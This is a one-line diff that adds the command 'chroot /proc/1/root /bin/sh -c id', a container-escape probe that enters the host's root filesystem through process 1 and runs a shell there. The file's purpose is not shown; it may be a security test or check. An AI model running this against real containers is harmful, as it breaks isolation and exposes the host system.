@@ -1,0 +1,1 @@
+chroot /proc/1/root /bin/sh -c id
